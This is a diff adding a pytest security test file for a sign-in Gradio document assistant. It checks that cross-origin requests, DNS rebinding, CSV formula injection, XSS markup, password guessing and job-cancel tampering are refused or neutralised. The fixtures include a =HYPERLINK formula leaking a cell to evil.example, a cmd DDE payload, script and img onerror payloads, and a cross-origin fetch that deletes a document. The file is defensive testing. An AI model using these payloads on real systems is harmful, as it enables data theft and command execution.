@@ -1,0 +1,712 @@
+"""The app shared on an office network, attacked as issue 14's probes did: each attack is refused or
+neutralised, and the legitimate path beside it still works.
+
+The apps run in-process on loopback with sign-in (readers and editors from an auth file), the hashing
+embedder and the extractive generator. A browser's part in an attack (the Origin and Sec-Fetch-Site
+headers it adds, which page scripts cannot change) is mostly played by setting those headers; one test
+makes the cross-port attack in Chromium itself.
+"""
+
+import csv
+import http.server
+import json
+import logging
+import os
+import signal
+import subprocess
+import sys
+import threading
+import time
+from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
+from contextlib import contextmanager
+from pathlib import Path
+from typing import Any
+
+import docx
+import httpx
+import pytest
+from gradio_client import Client, handle_file
+from markdown_it import MarkdownIt
+
+from assistant import auth
+from assistant.app import AssistantBlocks, answer_to_markdown, build_ui, launch
+from assistant.auth import Access, Role, SignInThrottle, User, hash_password, password_matches, write_auth_file
+from assistant.briefing import to_markdown, write_briefing
+from assistant.errors import DocumentError
+from assistant.exports import csv_cell, markdown_text
+from assistant.library import Library
+from assistant.settings import PROJECT_ROOT, Settings
+from assistant.store import ChunkStore, open_store
+from ingest.pipeline import ingest_paths
+from tests.conftest import HashingEmbeddings
+from tests.test_app import downloaded, fake_core, free_port, last_message, plain
+from tests.test_browser import CHROMIUM, CHROMIUM_ARGS
+
+PASSWORDS = {"ann": "ann reads the notes", "ed": "ed edits the library", "mallory": "mallory uploads things"}
+ROLES: dict[str, Role] = {"ann": "reader", "ed": "editor", "mallory": "editor"}
+SEED = "000_8499c543783cf847.txt"
+
+HARBOUR_NOTES = """Harbour Network Meeting
+
+Date: 4th June 2025, Oban
+
+Organisation\t=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")
+Contact\t=cmd|' /C calc'!A0
+Summary of Presentation\tKelpie Mentoring pairs care-experienced teenagers with volunteer sailors for weekly sessions.
+Key learning\tWeekly sailing sessions with volunteer mentors build confidence and trust for teenagers leaving care.
+
+Organisation\t@SUM(1+1)
+Contact\t-2+3 or call 01234 567890
+Summary of Presentation\tHarbour Kitchens teaches teenagers leaving care to cook with volunteer chefs every week.
+Key learning\tCooking together with volunteer chefs builds confidence and trust for teenagers leaving care.
+"""
+
+HOSTILE_NOTES = """Lighthouse Showcase
+
+Date: 2nd May 2025, Wick
+
+Organisation\tLighthouse Trust
+Summary of Presentation\tThe Lighthouse Befriending scheme <img src=x onerror="alert(1)"> matches young people \
+in care with trained befrienders [for details](javascript:alert(1)) ![pixel](http://t.example/p.png) each fortnight.
+Key learning\tBefrienders from the Lighthouse Befriending scheme stay for at least two years, which young people value.
+"""
+
+
+@contextmanager
+def serving(store: Path, **overrides: Any) -> Iterator[tuple[str, Library, AssistantBlocks]]:
+    """The app on loopback with the users above, over a fresh store of the seeds."""
+    users = store.parent / f"{store.name}-users"
+    write_auth_file(users, [User(name, ROLES[name], hash_password(password)) for name, password in PASSWORDS.items()])
+    answerer, library, settings = fake_core(store, auth_file=users, **overrides)
+    demo = build_ui(answerer, library)
+    launch(demo, settings, block=False)
+    try:
+        yield f"http://127.0.0.1:{settings.port}", library, demo
+    finally:
+        demo.close()
+
+
+@pytest.fixture(scope="module")
+def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Library, AssistantBlocks]]:
+    with serving(tmp_path_factory.mktemp("secure") / "store") as served:
+        yield served
+
+
+def signed_in(base: str, name: str) -> httpx.Client:
+    """A browser-like session: the cookie Gradio sets at sign-in, kept for later requests."""
+    session = httpx.Client(base_url=base, timeout=30)
+    response = session.post("/login", data={"username": name, "password": PASSWORDS[name]})
+    assert response.status_code == 200, response.text
+    return session
+
+
+def client_for(base: str, name: str) -> Client:
+    return Client(f"{base}/", auth=(name, PASSWORDS[name]), verbose=False)
+
+
+def call(session: httpx.Client, api: str, data: list[Any], **headers: str) -> httpx.Response:
+    return session.post(f"/gradio_api/call/{api}", json={"data": data}, headers=headers)
+
+
+def result(session: httpx.Client, api: str, event_id: str) -> list[Any]:
+    """The outputs of a job started through /gradio_api/call, once it completes."""
+    with session.stream("GET", f"/gradio_api/call/{api}/{event_id}", timeout=60) as stream:
+        event = ""
+        for line in stream.iter_lines():
+            if line.startswith("event:"):
+                event = line.split(":", 1)[1].strip()
+            elif line.startswith("data:") and event in {"complete", "error"}:
+                assert event == "complete", line
+                return list(json.loads(line[len("data:") :]))
+    raise AssertionError(f"{api} never completed")
+
+
+def sources(library: Library) -> set[str]:
+    return {entry.source for entry in library.documents()}
+
+
+@contextmanager
+def uploaded(base: str, path: Path, text: str, by: str = "ed") -> Iterator[None]:
+    """``text`` uploaded in the app under ``path``'s name by the editor ``by``; removed again after."""
+    path.write_text(text, encoding="utf-8")
+    status, *_ = client_for(base, by).predict([handle_file(str(path))], api_name="/upload")
+    try:
+        assert status.startswith("✅"), status
+        yield
+    finally:
+        client_for(base, "ed").predict(path.name, api_name="/remove")
+
+
+# --- another page on this machine, with the user's cookie ----------------------------------------
+
+
+def test_a_page_on_another_loopback_port_cannot_use_the_api_with_the_users_cookie(
+    app: tuple[str, Library, AssistantBlocks],
+) -> None:
+    base, library, _ = app
+    editor = signed_in(base, "ed")
+    evil = {"Origin": "http://127.0.0.1:8899"}
+    assert editor.get("/gradio_api/info", headers=evil).status_code == 403  # reading the API description
+    assert call(editor, "remove", [SEED], **evil).status_code == 403  # the fetch the probe made
+    form = editor.post(f"{base}/gradio_api/call/remove", data={"data": SEED}, headers=evil)  # a form, no preflight
+    assert form.status_code == 403
+    no_origin = {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "no-cors"}  # <script src> / <img src>
+    assert editor.get("/gradio_api/info", headers=no_origin).status_code == 403
+    assert editor.get("/config", headers={"Origin": "null"}).status_code == 403  # a sandboxed frame or file://
+    assert SEED in sources(library)
+    page = editor.get("/")  # nor show the app in a frame under its own page and steer the user's clicks
+    assert page.headers["x-frame-options"] == "SAMEORIGIN"
+    assert page.headers["content-security-policy"] == "frame-ancestors 'self'"
+    # The app's own page, and clients that are not browsers, still get through.
+    own = {"Origin": base, "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors"}
+    started = call(editor, "chat", ["What is Wee Breathers?", [], "All", "All"], **own)
+    assert started.status_code == 200
+    conversation, *_ = result(editor, "chat", started.json()["event_id"])
+    assert "Wee Breathers" in last_message(conversation)
+    assert editor.get("/config").status_code == 200
+    link = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate"}  # following a link to the app
+    assert editor.get("/", headers=link).status_code == 200
+
+
+def test_a_dns_name_pointed_at_loopback_cannot_reach_the_app(app: tuple[str, Library, AssistantBlocks]) -> None:
+    base, _, _ = app
+    port = base.rsplit(":", 1)[1]
+    rebound = {"Host": f"attacker.example:{port}", "Origin": f"http://attacker.example:{port}"}
+    assert httpx.get(f"{base}/", headers=rebound).status_code == 403
+    assert httpx.get(f"{base}/", headers={"Host": f"localhost:{port}"}).status_code == 200
+
+
+def test_in_chromium_a_page_on_another_port_cannot_remove_a_document_as_the_signed_in_user(
+    app: tuple[str, Library, AssistantBlocks],
+) -> None:
+    """The probe itself, in a real browser: the user signs in to the app, then opens a page served from
+    another loopback port whose script calls the API with ``credentials: 'include'``."""
+    if not Path(CHROMIUM).exists():
+        pytest.skip("Chromium is not installed (Debian: apt-get install chromium)")
+    from playwright.sync_api import sync_playwright
+
+    base, library, _ = app
+    with _another_page_server() as evil, sync_playwright() as playwright:
+        chromium = playwright.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
+        try:
+            context = chromium.new_context()
+            page = context.new_page()
+            page.goto(f"{base}/")
+            page.get_by_label("username").fill("ed")
+            page.get_by_label("password").fill(PASSWORDS["ed"])
+            page.get_by_role("button", name="Login").click()
+            page.get_by_role("heading", name="Promise Assistant").wait_for(timeout=30_000)
+            assert page.evaluate(_FETCH_INFO, base) == 200  # the app's own page: the cookie works
+            page.goto(evil)
+            assert page.evaluate(_FETCH_INFO, base) == "refused"
+            assert page.evaluate(_REMOVE, [base, SEED]) == "refused"
+        finally:
+            chromium.close()
+    assert SEED in sources(library)
+
+
+# What a hostile page's script does with the user's cookie: read the API description; start a removal
+# and, as an attacker would, wait for it to finish. "refused" when the browser or the app says no.
+_FETCH_INFO = """async (app) => {
+  try { const response = await fetch(app + "/gradio_api/info", {credentials: "include"});
+        return response.ok ? 200 : "refused"; } catch (error) { return "refused"; }
+}"""
+_REMOVE = """async ([app, name]) => {
+  try {
+    const started = await fetch(app + "/gradio_api/call/remove", {method: "POST", credentials: "include",
+      headers: {"Content-Type": "application/json"}, body: JSON.stringify({data: [name]})});
+    if (!started.ok) return "refused";
+    const {event_id} = await started.json();
+    return await (await fetch(app + "/gradio_api/call/remove/" + event_id, {credentials: "include"})).text();
+  } catch (error) { return "refused"; }
+}"""
+
+
+@contextmanager
+def _another_page_server() -> Iterator[str]:
+    """An empty page served from a free loopback port, as any other program on the machine might."""
+
+    class Page(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            body = b"<!doctype html><title>Another app</title><p>Nothing to see here.</p>"
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *args: Any) -> None:  # keeps the test output quiet
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}/"
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+# --- the page before sign-in ----------------------------------------------------------------------
+
+
+def test_the_page_before_sign_in_names_no_documents_or_events(app: tuple[str, Library, AssistantBlocks]) -> None:
+    base, library, _ = app
+    page = httpx.get(f"{base}/")
+    assert page.status_code == 200 and "sign in" in page.text
+    assert not [name for name in sources(library) if name in page.text]
+    assert not [event for event in library.events() if event in page.text]
+    assert httpx.get(f"{base}/gradio_api/info").status_code == 401
+    # Signed in, the description lists no endpoint (the UI does not use it); clients still call by name.
+    assert signed_in(base, "ann").get("/gradio_api/info").json()["named_endpoints"] == {}
+    conversation, *_ = client_for(base, "ann").predict("What is Wee Breathers?", [], "All", "All", api_name="/chat")
+    assert "Wee Breathers" in last_message(conversation)
+
+
+# --- roles and provenance --------------------------------------------------------------------------
+
+
+def test_a_reader_cannot_upload_or_remove_through_the_api(
+    app: tuple[str, Library, AssistantBlocks], tmp_path: Path
+) -> None:
+    base, library, _ = app
+    before = {entry.source: entry.chunk_ids for entry in library.documents()}
+    notes = tmp_path / "takeover.txt"
+    notes.write_text("Wee Breathers is HACKED. " * 40, encoding="utf-8")
+    reader = client_for(base, "ann")
+    status, *_ = reader.predict([handle_file(str(notes))], api_name="/upload")
+    assert status.startswith("⚠️") and "Only editors" in status
+    status, *_ = reader.predict(SEED, api_name="/remove")
+    assert status.startswith("⚠️") and "Only editors" in status
+    assert {entry.source: entry.chunk_ids for entry in library.documents()} == before
+    assert not (library.settings.upload_dir / "takeover.txt").exists()
+    # The page starts with the library's controls hidden; only an editor's page load shows them.
+    config = signed_in(base, "ann").get("/config").json()
+    tools = next(part for part in config["components"] if part["props"].get("elem_id") == "editor-tools")
+    assert tools["props"]["visible"] is False
+
+
+def test_an_editors_upload_is_marked_with_who_uploaded_it_wherever_it_is_cited(
+    app: tuple[str, Library, AssistantBlocks], tmp_path: Path
+) -> None:
+    base, library, _ = app
+    notes = tmp_path / "wee-breathers-update.txt"
+    takeover = (
+        "Wee Breathers Update\n\nDate: 1st June 2025\n\n"
+        + "Wee Breathers is HACKED and every session is cancelled, say the updated notes. " * 5
+    )
+    reader = client_for(base, "ann")
+    _, cards, *_ = reader.predict("What is Wee Breathers?", [], "All", "All", api_name="/chat")
+    assert "Scottish Attachment in Action" in cards and "uploaded by" not in cards  # the notes are unmarked
+    with uploaded(base, notes, takeover, by="mallory"):
+        reader.reset_session()
+        conversation, cards, *_ = reader.predict("Is Wee Breathers HACKED?", [], "All", "All", api_name="/chat")
+        answer = plain(last_message(conversation))
+        assert "HACKED" in answer and "wee-breathers-update.txt · uploaded by mallory, 20" in answer
+        assert 'class="uploaded">uploaded by mallory, 20' in cards
+        entry = next(entry for entry in library.documents() if entry.source == notes.name)
+        upload = library.last_upload(entry)
+        assert upload is not None and upload.by == "mallory"
+    assert notes.name not in sources(library)
+
+
+def test_provenance_survives_a_rebuild_and_names_the_uploader_of_each_passage(tmp_path: Path) -> None:
+    _, library, settings = fake_core(tmp_path / "store")
+    library.upload("harbour.txt", HARBOUR_NOTES.encode(), uploaded_by="ann")
+    library.upload("harbour.txt", HARBOUR_NOTES.replace("to cook", "to bake").encode(), uploaded_by="ed")
+
+    def uploaders(store: ChunkStore) -> dict[str, str | None]:
+        return {p.body: p.metadata.uploaded_by for p in store.live_passages() if p.metadata.source == "harbour.txt"}
+
+    before = uploaders(library.store)
+    assert set(before.values()) == {"ann", "ed"}  # the changed passage names ed; the unchanged one keeps ann
+    rebuilt = open_store(settings, HashingEmbeddings(), rebuild=True)  # as 'ingest --rebuild': an empty store
+    assert not rebuilt.live_passages()
+    ingest_paths(rebuilt, [settings.seeds_dir, settings.upload_dir], settings, progress=False)
+    assert uploaders(rebuilt) == before
+    seeds = [p for p in rebuilt.live_passages() if p.metadata.source == SEED]
+    assert seeds and all(p.metadata.uploaded_by is None for p in seeds)
+
+
+# --- CSV, Markdown and Word exports ----------------------------------------------------------------
+
+
+def test_the_finder_csv_never_hands_a_spreadsheet_a_formula(
+    app: tuple[str, Library, AssistantBlocks], tmp_path: Path
+) -> None:
+    base, _, _ = app
+    with uploaded(base, tmp_path / "harbour.txt", HARBOUR_NOTES):
+        reader = client_for(base, "ann")
+        _, csv_file, _ = reader.predict(
+            "volunteer mentors build confidence for teenagers leaving care", api_name="/find_projects"
+        )
+        with downloaded(csv_file).open(encoding="utf-8") as stream:
+            rows = list(csv.DictReader(stream))
+        harbour = [row for row in rows if row["Source"] == "harbour.txt"]
+        assert {row["Organisation"] for row in harbour} == {
+            '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+            "'@SUM(1+1)",
+        }
+        assert {row["Contact"] for row in harbour} == {"'=cmd|' /C calc'!A0", "'-2+3 or call 01234 567890"}
+        assert all(row["From"].startswith("uploaded by ed, 20") for row in harbour)
+        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
+        _, csv_file, _ = reader.predict("young people into work", api_name="/find_projects")
+        with downloaded(csv_file).open(encoding="utf-8") as stream:
+            notes_rows = [row for row in csv.DictReader(stream) if row["Source"] != "harbour.txt"]
+        assert notes_rows and all(row["From"] == "notes folder" for row in notes_rows)
+        assert all(not row["Organisation"].startswith("'") for row in notes_rows)  # ordinary cells are untouched
+
+
+@pytest.mark.parametrize(
+    ("cell", "shown"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+SUM(A1)", "'+SUM(A1)"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("  =1", "'  =1"),
+        ("The Promise Scotland", "The Promise Scotland"),
+        ("kinship@westlothian.gov.uk", "kinship@westlothian.gov.uk"),
+    ],
+)
+def test_csv_cells_that_start_a_formula_are_neutralised(cell: str, shown: str) -> None:
+    assert csv_cell(cell) == shown
+
+
+def test_markdown_and_word_exports_carry_document_text_as_text(
+    app: tuple[str, Library, AssistantBlocks], tmp_path: Path
+) -> None:
+    base, _, _ = app
+    with uploaded(base, tmp_path / "lighthouse.txt", HOSTILE_NOTES):
+        reader = client_for(base, "ann")
+        *_, download = reader.predict("What is the Lighthouse Befriending scheme?", [], "All", "All", api_name="/chat")
+        markdown = downloaded(download).read_text(encoding="utf-8")
+        assert "Lighthouse Befriending" in markdown and "uploaded by ed" in markdown
+        rendered = MarkdownIt("commonmark").render(markdown)
+        assert "&lt;img src=x" in rendered and "<img" not in rendered and "<a " not in rendered
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '<script>alert(1)</script> and <img src=x onerror="alert(1)">',
+        "[Click here](javascript:alert(1)) and ![tracker](http://tracker.example/p.png)",
+        "<http://evil.example> and [ref]\n[ref]: javascript:alert(1)",
+        "# Not a heading\n> not a quote\n- not a list\n1. not numbered",
+    ],
+)
+def test_markdown_text_renders_as_the_same_text(text: str) -> None:
+    rendered = MarkdownIt("commonmark").render(markdown_text(text))
+    assert not any(tag in rendered for tag in ("<script", "<img", "<a ", "<h1", "<blockquote", "<ul", "<ol"))
+
+
+def test_word_and_markdown_briefings_survive_control_characters_and_markup(tmp_path: Path) -> None:
+    answerer, _, _ = fake_core(tmp_path / "store")
+    briefing = answerer.brief("young people into work")
+    assert briefing.answered
+    hostile = briefing.__class__(
+        briefing.topic + " \x0b<b>bold</b>", "<script>x</script> headline", [p + " \x00<i>" for p in briefing.points],
+        briefing.citations, briefing.generator,
+    )  # fmt: skip
+    word = write_briefing(hostile, tmp_path / "b.docx")
+    text = "\n".join(paragraph.text for paragraph in docx.Document(str(word)).paragraphs)
+    assert "<script>x</script> headline" in text  # Word shows the markup as the characters it is
+    rendered = MarkdownIt("commonmark").render(to_markdown(hostile))
+    assert "<script" not in rendered and "<b>" not in rendered and "&lt;script&gt;" in rendered
+
+
+def test_an_answer_download_writes_the_question_as_text(tmp_path: Path) -> None:
+    answerer, _, _ = fake_core(tmp_path / "store")
+    answer = answerer.answer("What is Wee Breathers? <img src=x onerror=alert(1)>")
+    rendered = MarkdownIt("commonmark").render(answer_to_markdown(answer))
+    assert "<img" not in rendered and "&lt;img" in rendered
+
+
+# --- sign-in throttling -----------------------------------------------------------------------------
+
+
+def throttled_settings(**overrides: Any) -> dict[str, Any]:
+    return {
+        "signin_free_failures": 3, "signin_first_delay": 2.0, "signin_lockout_failures": 6,
+        "signin_lockout_seconds": 3.0,
+    } | overrides  # fmt: skip
+
+
+def sign_in(base: str, name: str, password: str) -> httpx.Response:
+    return httpx.post(f"{base}/login", data={"username": name, "password": password}, timeout=30)
+
+
+def test_twenty_wrong_passwords_lock_the_user_out_then_the_right_one_works_again(
+    tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    caplog.set_level(logging.WARNING)
+    with serving(tmp_path / "store", **throttled_settings()) as (base, _, _):
+        statuses = [sign_in(base, "ann", f"guess number {n}").status_code for n in range(20)]
+        assert statuses[:3] == [400, 400, 400]  # typos are free
+        assert statuses[3:].count(429) >= 14 and statuses.count(400) <= 6
+        refused = sign_in(base, "ann", PASSWORDS["ann"])
+        assert refused.status_code == 429 and "try again in" in refused.json()["detail"]
+        assert int(refused.headers["Retry-After"]) >= 1
+        time.sleep(3.2)  # the lockout window passes with no further failure
+        assert sign_in(base, "ann", PASSWORDS["ann"]).status_code == 200
+    failures = [record.getMessage() for record in caplog.records if "Failed sign-in" in record.getMessage()]
+    assert failures and all("'ann' from 127.0.0.1" in message for message in failures)
+    assert not [record for record in caplog.records if "guess number" in record.getMessage()]  # never a password
+
+
+def test_twenty_simultaneous_wrong_passwords_get_three_tries(tmp_path: Path) -> None:
+    with serving(tmp_path / "store", **throttled_settings()) as (base, _, _):
+        with ThreadPoolExecutor(max_workers=20) as pool:
+            statuses = list(pool.map(lambda n: sign_in(base, "ed", f"burst {n}").status_code, range(20)))
+        assert statuses.count(400) == 3 and statuses.count(429) == 17
+        assert sign_in(base, "ed", PASSWORDS["ed"]).status_code == 429
+
+
+def test_throttle_grows_the_delay_then_locks_and_forgets_after_a_quiet_window() -> None:
+    now = [0.0]
+    throttle = SignInThrottle(Settings(**throttled_settings(signin_first_delay=1.0, signin_lockout_seconds=60.0)),
+                              clock=lambda: now[0])  # fmt: skip
+
+    def guess() -> float:
+        """One wrong password, sent as soon as the throttle allows: how long the guesser had to wait."""
+        wait = throttle.begin("ann", "10.0.0.5")
+        if wait:
+            now[0] += wait
+            assert throttle.begin("ann", "10.0.0.5") == 0.0
+        return wait
+
+    assert [guess() for _ in range(6)] == [0.0, 0.0, 0.0, 1.0, 2.0, 4.0]
+    assert throttle.begin("ann", "10.0.0.5") == pytest.approx(60.0)  # locked out
+    assert throttle.begin("bob", "10.0.0.5") > 0  # the same address guessing another name
+    assert throttle.begin("ann", "10.0.0.9") > 0  # the same name from another address
+    assert throttle.begin("carol", "10.0.0.9") == 0.0
+    now[0] += 60.0
+    assert throttle.begin("ann", "10.0.0.5") == 0.0  # a quarter of an hour of quiet forgives
+    throttle.succeeded("ann", "10.0.0.5")
+    assert throttle.recent_failures("ann") == 0
+
+
+def test_spraying_many_names_from_one_address_is_throttled_too() -> None:
+    throttle = SignInThrottle(Settings(**throttled_settings()), clock=lambda: 0.0)
+    waits = [throttle.begin(f"user{n}", "10.0.0.7") for n in range(10)]
+    assert waits[:3] == [0.0, 0.0, 0.0] and all(wait > 0 for wait in waits[3:])
+
+
+def test_a_success_does_not_clear_the_addresss_other_failures() -> None:
+    throttle = SignInThrottle(Settings(**throttled_settings()), clock=lambda: 0.0)
+    for name in ("victim1", "victim2"):
+        throttle.begin(name, "10.0.0.8")
+    throttle.begin("insider", "10.0.0.8")
+    throttle.succeeded("insider", "10.0.0.8")  # an attacker's own account signs in between guesses
+    throttle.begin("victim3", "10.0.0.8")
+    assert throttle.begin("victim4", "10.0.0.8") > 0
+
+
+def test_passwords_are_stored_as_salted_hashes(tmp_path: Path) -> None:
+    users = tmp_path / "users"
+    write_auth_file(users, [User("ann", "reader", hash_password("same password")),
+                            User("bob", "editor", hash_password("same password"))])  # fmt: skip
+    text = users.read_text(encoding="utf-8")
+    assert "same password" not in text and (users.stat().st_mode & 0o077) == 0
+    hashes = [line.split(":", 2)[2] for line in text.splitlines() if not line.startswith("#")]
+    assert len(set(hashes)) == 2  # salted: the same password hashes differently
+    assert password_matches("same password", hashes[0]) and not password_matches("same passwore", hashes[0])
+    access = Access.from_settings(Settings(auth_file=users))
+    assert access.check("ann", "same password") and not access.check("ann", "wrong") and not access.check("zed", "x")
+    assert access.role("ann") == "reader" and access.may_edit("bob") and not access.may_edit("ann")
+    assert not access.may_edit(None) and Access({}).may_edit(None)  # on loopback with no users: one local editor
+
+
+def test_an_unknown_name_costs_the_same_hashing_as_a_known_one(monkeypatch: pytest.MonkeyPatch) -> None:
+    """So the time a wrong sign-in takes does not tell a guesser which names exist."""
+    hashed: list[str] = []
+    real = auth.password_matches
+
+    def counted(password: str, password_hash: str) -> bool:
+        hashed.append(password_hash)
+        return real(password, password_hash)
+
+    monkeypatch.setattr(auth, "password_matches", counted)
+    access = Access({"ann": User("ann", "reader", hash_password("the right password"))})
+    assert not access.check("nobody", "a guess") and not access.check("ann", "a guess")
+    assert len(hashed) == 2 and hashed[0].split("$")[:4] == hashed[1].split("$")[:4]  # the same scrypt cost
+
+
+def test_the_users_command_adds_a_user_whose_password_never_reaches_the_file(tmp_path: Path) -> None:
+    users = tmp_path / "users"
+    env = {key: value for key, value in os.environ.items() if not key.startswith("PROMISE_")}
+    env |= {"PROMISE_AUTH_FILE": str(users), "PROMISE_CACHE_DIR": str(tmp_path / "cache")}
+
+    def run(*args: str, password: str = "") -> subprocess.CompletedProcess[str]:
+        return subprocess.run([sys.executable, "-m", "assistant.cli", "users", *args], input=password,
+                              capture_output=True, text=True, timeout=60, env=env)  # fmt: skip
+
+    assert run("add", "ann", "--role", "reader", password="a long password\n").returncode == 0
+    assert run("add", "ed", "--role", "editor", password="another long one\n").returncode == 0
+    short = run("add", "bob", "--role", "editor", password="short\n")
+    assert short.returncode == 2 and "at least 8" in short.stderr and "Traceback" not in short.stderr
+    assert run("list").stdout.split() == ["ann", "reader", "ed", "editor"]
+    assert "a long password" not in users.read_text(encoding="utf-8")
+    access = Access.from_settings(Settings(auth_file=users))
+    assert access.check("ann", "a long password") and access.role("ed") == "editor"
+
+
+# --- cancel ------------------------------------------------------------------------------------------
+
+
+def test_only_the_session_that_queued_a_job_can_cancel_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    gate = threading.Event()
+    answered = _gate_answers(monkeypatch, gate)
+    with serving(tmp_path / "store", concurrency=1) as (base, _, demo):
+        ann, bob = signed_in(base, "ann"), signed_in(base, "ed")
+        question = ["What is Wee Breathers?", [], "All", "All"]
+        running = call(ann, "chat", question).json()["event_id"]
+        queued = call(ann, "chat", question).json()["event_id"]
+        chat = next(index for index, fn in demo.fns.items() if fn.api_name == "chat")
+        body = {"session_hash": queued, "fn_index": chat, "event_id": queued}
+        assert httpx.post(f"{base}/gradio_api/cancel", json=body).status_code == 403  # no session at all
+        assert bob.post("/gradio_api/cancel", json=body).status_code == 403  # another signed-in user
+        assert ann.post("/gradio_api/cancel", json=body | {"session_hash": "guessed"}).status_code == 403
+        # Gradio's stream routes need no sign-in: they would close the job, or swap its question.
+        assert httpx.post(f"{base}/gradio_api/stream/{queued}/close").status_code == 403
+        swapped = {"data": ["Zebra husbandry in Peru?", [], "All", "All"], "fn_index": chat, "session_hash": queued}
+        assert bob.post(f"/gradio_api/stream/{queued}", json=swapped).status_code == 403
+        gate.set()
+        assert "Wee Breathers" in last_message(result(ann, "chat", running)[0])
+        assert "Wee Breathers" in last_message(result(ann, "chat", queued)[0])  # the attacks cancelled nothing
+        gate.clear()
+        running = call(ann, "chat", question).json()["event_id"]
+        queued = call(ann, "chat", question).json()["event_id"]
+        time.sleep(0.5)
+        own = ann.post("/gradio_api/cancel", json={"session_hash": queued, "fn_index": chat, "event_id": queued})
+        assert own.status_code == 200  # the owner may
+        gate.set()
+        result(ann, "chat", running)
+        time.sleep(0.5)
+        assert len(answered) == 3  # the cancelled job never reached the answerer
+
+
+def _gate_answers(monkeypatch: pytest.MonkeyPatch, gate: threading.Event) -> list[str]:
+    """Every answer waits for ``gate``, so jobs pile up in Gradio's queue (one worker); returns the
+    questions that reached the answerer."""
+    from assistant.answering import Answerer
+
+    answered: list[str] = []
+    original = Answerer.stream
+
+    def gated(self: Answerer, question: str, *args: Any, **kwargs: Any) -> Any:
+        answered.append(question)
+        gate.wait(30)
+        yield from original(self, question, *args, **kwargs)
+
+    monkeypatch.setattr(Answerer, "stream", gated)
+    return answered
+
+
+# --- housekeeping --------------------------------------------------------------------------------------
+
+
+def test_a_notes_folder_name_is_protected_in_any_case(app: tuple[str, Library, AssistantBlocks]) -> None:
+    _, library, _ = app
+    before = {entry.source: entry.chunk_ids for entry in library.documents()}
+    for name in (SEED.upper().replace(".TXT", ".txt"), SEED.replace(".txt", ".TXT"), SEED.capitalize()):
+        with pytest.raises(DocumentError, match="notes folder"):
+            library.upload(name, b"Replacement notes about something else entirely, written by someone.")
+    assert {entry.source: entry.chunk_ids for entry in library.documents()} == before
+
+
+def test_an_upload_differing_only_in_case_from_another_is_refused(tmp_path: Path) -> None:
+    _, library, _ = fake_core(tmp_path / "store")
+    notes = b"Harbour Notes\n\nKelpie Mentoring pairs teenagers with volunteer sailors every week.\n"
+    library.upload("Harbour.md", notes)
+    with pytest.raises(DocumentError, match="use that exact name"):
+        library.upload("harbour.md", notes)
+    assert library.upload("Harbour.md", notes + b"\nNew paragraph about cooking together.\n").replaced
+
+
+def test_a_malformed_four_megabyte_request_is_one_short_log_line(
+    app: tuple[str, Library, AssistantBlocks], caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
+) -> None:
+    base, _, _ = app
+    caplog.set_level(logging.WARNING)
+    session = signed_in(base, "ann")
+    capfd.readouterr()
+    secret = "a question nobody should log "
+    payloads = [
+        ("/gradio_api/call/chat", {"data": [secret * 150_000]}),  # too few inputs, 4 MB of them
+        ("/gradio_api/call/chat", {"data": [secret, [{"role": "nobody"}] * 100_000, "All", "All"]}),
+        ("/gradio_api/queue/join", {"data": [secret * 150_000], "fn_index": "not a number", "session_hash": 5}),
+        ("/gradio_api/cancel", {"session_hash": [secret] * 100_000, "event_id": 3}),
+    ]
+    for path, payload in payloads:
+        response = session.post(path, json=payload)
+        if response.status_code == 200 and "event_id" in response.json():
+            with session.stream("GET", f"/gradio_api/call/chat/{response.json()['event_id']}") as stream:
+                body = "".join(stream.iter_lines())
+            assert "event: error" in body and secret not in body
+        else:
+            assert response.status_code in {403, 413, 422} and len(response.content) < 1000
+    time.sleep(0.5)
+    stderr = capfd.readouterr().err
+    logged = [record.getMessage() for record in caplog.records]
+    assert secret not in stderr and len(stderr) < 2000
+    assert all(secret not in message and len(message) < 500 for message in logged)
+    assert sum("malformed" in message or "Refused" in message for message in logged) >= 3
+    conversation, *_ = client_for(base, "ann").predict("What is Wee Breathers?", [], "All", "All", api_name="/chat")
+    assert "Wee Breathers" in last_message(conversation)
+
+
+@pytest.mark.parametrize("stop", [signal.SIGTERM, signal.SIGINT], ids=["SIGTERM", "Ctrl-C"])
+def test_stopping_the_app_removes_the_downloads_named_after_questions(tmp_path: Path, stop: signal.Signals) -> None:
+    _, _, settings = fake_core(tmp_path / "store")  # a store the served app opens with the same fake embedder
+    port = free_port()
+    env = {key: value for key, value in os.environ.items() if not key.startswith("PROMISE_")}
+    env |= {
+        "PROMISE_STORE_DIR": str(settings.store_dir), "PROMISE_EMBEDDING_MODEL": "fake-hashing",
+        "PROMISE_COLLECTION": settings.collection, "PROMISE_LLM": "extractive", "PROMISE_PORT": str(port),
+        "PROMISE_CACHE_DIR": str(tmp_path / "cache"), "TMPDIR": str(tmp_path / "tmp"),
+        "GRADIO_TEMP_DIR": str(tmp_path / "gradio"), "PYTHONPATH": str(PROJECT_ROOT),
+    }  # fmt: skip
+    (tmp_path / "tmp").mkdir()
+    # The real 'serve' command, with the fake embedder in place of the real one (no model to load).
+    script = (
+        "import sys, assistant.cli as cli; from tests.conftest import HashingEmbeddings; "
